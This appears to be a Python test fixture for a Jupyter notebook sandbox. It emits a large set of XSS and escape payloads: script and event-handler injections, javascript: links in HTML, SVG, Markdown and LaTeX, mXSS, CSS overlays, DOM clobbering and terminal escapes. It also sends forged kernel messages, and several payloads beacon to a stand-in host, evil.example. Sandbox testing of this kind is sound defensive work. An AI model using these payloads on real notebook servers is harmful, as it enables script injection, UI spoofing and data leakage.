"""What a hostile sandbox shows: every way out of an output that we know of.

Each attack that succeeds either sets `pwned` in the page or asks for an address with `pwned` in it.
"""

from IPython import get_ipython
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display, update_display

RUN = "window.pwned=(window.pwned||[]).concat('{0}');fetch('/api/contents?pwned={0}')"
AWAY = "http://evil.example/pwned"


def run(name):
    return RUN.format(name).replace('"', "&quot;")


def raw(mime, data, **more):
    display({mime: data, "text/plain": f"raw {mime}", **more}, raw=True)


display(Javascript(RUN.format("mime")))
raw("text/javascript", RUN.format("text"))
display(
    HTML(f"""
<p>html survivor</p>
<script>{RUN.format("script")}</script>
<img src=x onerror="{run("onerror")}">
<img src="{AWAY}.png"><img srcset="{AWAY}.png 1x"><picture><source srcset="{AWAY}.webp"></picture>
<video src="{AWAY}.mp4" poster="{AWAY}.jpg" autoplay></video><audio src="{AWAY}.mp3" autoplay></audio>
<iframe src="javascript:parent.{RUN.format("iframe")}"></iframe><iframe srcdoc="<script>parent.{run("srcdoc")}</script>"></iframe>
<object data="{AWAY}"></object><embed src="{AWAY}"><link rel="stylesheet" href="{AWAY}.css"><meta http-equiv="refresh" content="0;url={AWAY}">
<base href="{AWAY}"><form action="{AWAY}"><input autofocus onfocus="{run("focus")}"><button>form</button></form>
<details open ontoggle="{run("toggle")}"><summary>details</summary></details>
<svg onload="{run("svgload")}"><animate onbegin="{run("begin")}" attributeName="x" dur="1s"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run("mxss")}&gt;">
""")
)
display(
    HTML(f"""
<a href="javascript:{RUN.format("href")}">link script</a> <a href="/api/contents?pwned=local" target="_blank">link local</a>
<a href="{AWAY}?click" ping="{AWAY}?ping">link away</a> <a href="#pwned">link hash</a> <a href="data:text/html,x">link data</a>
<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{{}}">command button</button>
<span data-commandlinker-command="apputils:reset" class="jp-mod-styled">command span</span>
<a class="jp-InternalAnchorLink" data-path="x" data-locator="line=1">path</a>
""")
)
display(
    HTML(f"""
<style>
.cover, div {{ position: fixed; inset: 0; z-index: 99999; background: url({AWAY}.css.png); width: 100vw; height: 100vh }}
@import url({AWAY}.import.css); @font-face {{ font-family: f; src: url({AWAY}.woff) }}
body, #jp-main-dock-panel, .jp-Notebook {{ display: none !important }}
#main[class*="x"] {{ background: url({AWAY}.leak) }}
</style>
<div class="cover jp-Dialog" id="main" style="position:fixed;inset:0;z-index:9999;background:url({AWAY}.style.png);font-family:f">cover</div>
<div id="jupyterapp" name="jupyterapp" class="lm-Widget lm-Menu" style="margin-top:-4000px">clobber</div>
""")
)
display(
    SVG(f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40">
<script>{RUN.format("svgscript").replace("&", "&amp;")}</script><rect width="80" height="40" fill="teal" onclick="{run("svgclick")}"/>
<foreignObject width="80" height="40"><img xmlns="http://www.w3.org/1999/xhtml" src="{AWAY}.fo.png" onerror="{run("fo")}"/></foreignObject>
<animate attributeName="href" values="javascript:{RUN.format("animate").replace("&", "&amp;")}"/><image href="{AWAY}.svg.png" width="9" height="9"/>
<use href="{AWAY}.svg#x"/><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/><a xlink:href="javascript:0"><text y="9">x</text></a>
<style>@import url({AWAY}.svg.css); rect {{ fill: url({AWAY}.svg.fill) }}</style></svg>""")
)
display(
    Markdown(f"""# survivor of markdown
[script](javascript:{RUN.format("md")}) ![tracker]({AWAY}.md.png) <img src=x onerror="{run("mdhtml")}"> [away]({AWAY}?md)

<script>{RUN.format("mdscript")}</script>

$\\href{{javascript:{RUN.format("mdmath")}}}{{math}}$

```mermaid
graph TD; A-->B; click A href "javascript:{RUN.format("mermaid")}"
```
""")
)
display(
    Latex(
        rf"$\href{{javascript:{RUN.format('latex')}}}{{\text{{click}}}}$ $\style{{position:fixed;inset:0}}{{x}}$"
    )
)
display(Latex(r"$\require{html}\class{jp-Dialog}{\cssId{main}{x}}\unicode{x202e}$"))
display(HTML(rf"<p>$\href{{javascript:{RUN.format('htmlmath')}}}{{\text{{click too}}}}$</p>"))
widget = {"model_id": "w", "version_major": 2, "version_minor": 0}
raw("application/vnd.jupyter.widget-view+json", widget)
esm = f"export default {{ render() {{ {RUN.format('esm')} }} }}"
raw("application/vnd.plotly.v1+json", {"data": [{"x": [1]}], "layout": {"images": [{"source": AWAY}]}})
raw("application/vnd.vegalite.v5+json", {"data": {"url": AWAY + ".vega.json"}, "mark": "bar"})
raw("application/json", {"html": "<img src=x onerror=alert(1)>", "url": AWAY})
raw("application/pdf", "JVBERi0=")
display(HTML("first"), display_id="d")
update_display(HTML(f"<script>{RUN.format('update')}</script>"), display_id="d")
print(
    f"\x1b]8;;javascript:{RUN.format('osc')}\x07terminal link\x1b]8;;\x07 \x1b[2J\u202etxt\x1b]52;c;cHduZWQ=\x07"
)

kernel = get_ipython().kernel
kernel.session.debug = False


def send(kind, content, channel=kernel.iopub_socket):
    kernel.session.send(channel, kind, content, parent=kernel.get_parent())


state = {"_esm": esm, "_model_module": "anywidget", "_view_module": "anywidget", "_view_name": "AnyView"}
send("comm_open", {"comm_id": "w", "target_name": "jupyter.widget", "data": {"state": state}})
send("comm_open", {"comm_id": "x", "target_name": "x", "target_module": AWAY + ".js", "data": {}})
send("status", {"execution_state": "dead"})
send("display_data", {"data": {"text/html": "<b>forged survivor</b>"}, "metadata": {"isolated": True}})
get_ipython().set_next_input("pwned = 'a cell that nobody wrote'")
get_ipython().payload_manager.write_payload({
    "source": "page",
    "data": {"text/html": f"<script>{RUN.format('page')}</script>"},
    "start": 0,
})
print("the end")
